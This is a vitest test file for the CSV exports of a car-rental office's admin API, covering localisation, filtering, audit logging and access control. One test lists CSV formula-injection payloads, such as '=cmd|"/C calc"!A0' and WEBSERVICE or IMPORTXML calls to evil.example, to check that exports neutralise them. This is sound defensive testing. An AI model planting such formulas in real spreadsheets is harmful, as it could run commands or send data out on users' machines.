import { parse } from 'csv-parse/sync';
import { sql } from 'drizzle-orm';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { confirmedBooking, desk } from '#test/builders/desk.ts';
import { signedIn } from '#test/builders/signed-in.ts';
import { freshApp, type TestApp } from '#test/fresh-app.ts';

let app: TestApp;
let office: Awaited<ReturnType<typeof desk>>;
let bookingId: string;

beforeAll(async () => {
  app = await freshApp({ now: '2026-11-20T12:00' });
  office = await desk(app);
  bookingId = await confirmedBooking(app, office.vehicleId, {}, 1070);
});
afterAll(() => app.close());

/** A CSV file of the office, as it is and as a spreadsheet reads it. */
const taken = async (path: string, headers = office.clerk.headers) => {
  const { statusCode, headers: answered, body } = await app.server.inject({ url: `/api/admin/${path}`, headers });
  const [heads = [], ...rows] = statusCode === 200 ? (parse(body, { bom: true }) as string[][]) : [];
  return { status: statusCode, headers: answered, body, heads, rows };
};

const newestEntry = async () => {
  const { body } = await app.call('GET /admin/audit', { headers: office.admin.headers, query: { limit: 1 } });
  return body.data[0];
};

test('the bookings of the list are a file with its date in its name, in UTF-8 that spreadsheets know', async () => {
  const { headers, body, heads, rows } = await taken('bookings/export');
  expect(headers['content-type']).toBe('text/csv; charset=utf-8');
  expect(headers['content-disposition']).toBe('attachment; filename="bookings-2026-11-20.csv"');
  expect(body.startsWith('\uFEFF"Booking","Made"')).toBe(true);
  expect(heads).toHaveLength(16);
  expect(rows).toHaveLength(1);
  expect(Object.fromEntries(heads.map((head, index) => [head, rows[0]?.[index]]))).toMatchObject({
    Made: '20/11/2026 12:00',
    Customer: 'Hannah Keller',
    Vehicle: 'Toyota Yaris',
    'Licence plate': '1กก 1000',
    Days: '5',
    'Pick-up location': 'Silom',
    Status: 'Confirmed',
    'Total (THB)': '5350',
    'Still owed (THB)': '4280',
    Payment: 'Partial',
  });
});

test('telephones are kept from being taken for sums', async () => {
  await app.db.execute(sql`update booking set phone = '+66 81 555 0199' where id = ${bookingId}`);
  const { rows } = await taken('bookings/export?columns=booking.customer');
  expect(rows[0]?.[4]).toBe("'+66 81 555 0199");
});

test('only the columns of the address are in it, the first always', async () => {
  expect((await taken('bookings/export?columns=total')).heads).toEqual([
    ...['Booking', 'Made', 'Total (THB)', 'Still owed (THB)', 'Payment'],
  ]);
  expect((await taken('bookings/export?columns=booking')).heads).toEqual(['Booking', 'Made']);
});

test('in Thai the heads, the words and the places are Thai', async () => {
  const { heads, rows } = await taken('bookings/export?columns=dates.status&language=th');
  expect(heads).toEqual(['รหัสการจอง', 'จองเมื่อ', 'รับรถ', 'คืนรถ', 'จำนวนวัน', 'จุดรับรถ', 'จุดคืนรถ', 'สถานะ']);
  expect(rows[0]?.slice(5)).toEqual(['สีลม', expect.any(String), 'ยืนยันแล้ว']);
});

test('it is narrowed as the list is', async () => {
  expect((await taken('bookings/export?status=cancelled')).rows).toEqual([]);
  expect((await taken('bookings/export?search=Keller')).rows).toHaveLength(1);
});

test('each file is told to the log with what was asked, but never what was searched for', async () => {
  await taken('bookings/export?status=confirmed&search=Keller&columns=booking.total');
  const entry = await newestEntry();
  expect(entry).toMatchObject({
    action: 'booking.exported',
    actor: { id: office.clerk.id },
    subject: { kind: 'export', id: 'bookings', name: 'bookings-2026-11-20.csv' },
    changes: [
      { field: 'status', after: 'confirmed' },
      { field: 'columns', after: 'booking.total' },
      { field: 'hasSearch', after: true },
    ],
  });
  expect(JSON.stringify(entry)).not.toContain('Keller');
  await taken('customers/export?sort=name');
  expect(await newestEntry()).toMatchObject({ action: 'customer.exported', changes: [{ field: 'sort' }] });
  await taken('vehicles/export');
  expect(await newestEntry()).toMatchObject({ action: 'vehicle.exported', changes: [] });
});

test('customers come with what they did with us, vehicles with what they cost', async () => {
  const customers = await taken('customers/export?columns=contact.bookings.spent');
  expect(customers.heads).toEqual([
    ...['Customer number', 'First name', 'Last name', 'Nationality', 'Email', 'Phone', 'Bookings', 'Total spent (THB)'],
  ]);
  expect(customers.rows[0]?.slice(1, 3)).toEqual(['Hannah', 'Keller']);
  expect(customers.headers['content-disposition']).toContain('customers-2026-11-20.csv');
  const vehicles = await taken('vehicles/export?search=Yaris');
  expect(vehicles.rows[0]?.slice(0, 3)).toEqual(['Toyota', 'Yaris', '1กก 1000']);
  expect(vehicles.headers['content-disposition']).toContain('vehicles-2026-11-20.csv');
});

test.each(['bookings', 'customers', 'vehicles'])('%s are for those who work here alone', async (list) => {
  expect((await taken(`${list}/export`, {})).status).toBe(401);
  expect((await taken(`${list}/export`, await signedIn(app, 'CUSTOMER'))).status).toBe(403);
  expect((await taken(`${list}/export?columns=DROP`)).status).toBe(422);
});

const payloads = [
  ...['=1+1', '=cmd|"/C calc"!A0', '=HYPERLINK("http://evil.example","x")', '=IMPORTXML("http://evil.example","//a")'],
  ...['=WEBSERVICE("http://evil.example")', '@SUM(1+1)*cmd|"/C calc"!A0', '+1+1', '-1+1', '-2+3+cmd|"/C calc"!A0'],
  ...['\t=1+1', '\r=1+1', '\n=1+1', '\tplain', '\rplain', ' =1', '\u00A0=1', '\u200B=1', '＝1+1', '＋1', '－1', '＠A1'],
  ...['="a","b"', '=1","=2', '@', '-'],
];

test('no customer’s name is a formula in the office’s spreadsheet', async () => {
  expect(payloads.length).toBeGreaterThanOrEqual(20);
  for (const payload of payloads) {
    await app.db.execute(sql`update booking set first_name = ${payload}, last_name = 'x' where id = ${bookingId}`);
    const { rows } = await taken('bookings/export?columns=customer');
    expect([payload, rows[0]?.[2]?.[0]]).toEqual([
      payload,
      /^[\s]/.test(payload) && payload.trim() === 'plain' ? 'p' : "'",
    ]);
  }
});

test('ten thousand bookings come whole, each once, in the order of the list', async () => {
  await app.db.execute(sql`
    insert into booking select copy.* from booking b cross join generate_series(1, 10000) n
    cross join lateral jsonb_populate_record(b, jsonb_build_object(
      'id', gen_random_uuid(), 'reference', 'T' || n, 'status', 'cancelled', 'created_at', b.created_at - n * interval '1 minute')) copy`);
  const { rows } = await taken('bookings/export?columns=booking');
  expect(rows).toHaveLength(10_001);
  expect(rows.slice(1).map(([reference]) => reference)).toEqual(Array.from({ length: 10_000 }, (_, n) => `T${n + 1}`));
});
